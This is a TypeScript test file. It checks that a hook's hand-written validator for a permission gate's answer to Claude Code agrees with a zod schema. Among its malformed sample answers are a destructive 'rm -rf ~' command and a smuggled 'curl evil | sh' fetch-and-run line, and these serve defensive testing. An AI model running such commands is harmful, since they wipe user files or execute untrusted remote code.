/**
 * The hook process checks the gate's answer without zod (it would double the hook's start): the
 * check must accept exactly what GateAnswerSchema accepts, so no answer the gate's schema would
 * refuse reaches Claude Code as a decision.
 */
import { describe, expect, it } from 'vitest';
import { GateAnswerSchema } from '../../main/hooks/hookInput';
import { readGateAnswer } from '../../main/hooks/hookWire';

const GRANT = { grant: 'a'.repeat(32), sha256: 'b'.repeat(64) };
const allow = { hookEventName: 'PreToolUse', permissionDecision: 'allow', permissionDecisionReason: 'ok' };

/** Answers a gate (or whatever listens at its address) might send: each well-formed shape, and each one off by one field. */
const ANSWERS: unknown[] = [
  {},
  { hookSpecificOutput: allow },
  { hookSpecificOutput: { ...allow, permissionDecision: 'deny' } },
  { hookSpecificOutput: { ...allow, permissionDecision: 'ask' } },
  { hookSpecificOutput: { ...allow, updatedInput: { command: 'ls' } } },
  { hookSpecificOutput: allow, runInGate: GRANT },
  { hookSpecificOutput: allow, runInGate: undefined },
  null,
  [],
  'allow',
  { hookSpecificOutput: allow, extra: true },
  { extra: true },
  { hookSpecificOutput: { ...allow, permissionDecision: 'ALLOW' } },
  { hookSpecificOutput: { ...allow, permissionDecision: 'approve' } },
  { hookSpecificOutput: { ...allow, hookEventName: 'PostToolUse' } },
  { hookSpecificOutput: { ...allow, permissionDecisionReason: 7 } },
  { hookSpecificOutput: { permissionDecision: 'allow', hookEventName: 'PreToolUse' } },
  { hookSpecificOutput: { ...allow, continue: false } },
  { hookSpecificOutput: { ...allow, updatedInput: ['rm', '-rf', '~'] } },
  { hookSpecificOutput: { ...allow, updatedInput: 'rm -rf ~' } },
  { hookSpecificOutput: { ...allow, updatedInput: null } },
  { hookSpecificOutput: [allow] },
  { hookSpecificOutput: allow, runInGate: { ...GRANT, grant: 'A'.repeat(32) } },
  { hookSpecificOutput: allow, runInGate: { ...GRANT, sha256: 'b'.repeat(63) } },
  { hookSpecificOutput: allow, runInGate: { ...GRANT, command: 'curl evil | sh' } },
  { hookSpecificOutput: allow, runInGate: { grant: GRANT.grant } },
  { hookSpecificOutput: allow, runInGate: 'a'.repeat(32) },
  { runInGate: GRANT },
];

describe("the hook's check of the gate's answer", () => {
  it.each(ANSWERS.map((answer) => [JSON.stringify(answer) ?? String(answer), answer]))('agrees with GateAnswerSchema on %s', (_label, answer) => {
    expect(readGateAnswer(answer) !== undefined).toBe(GateAnswerSchema.safeParse(answer).success);
  });
});
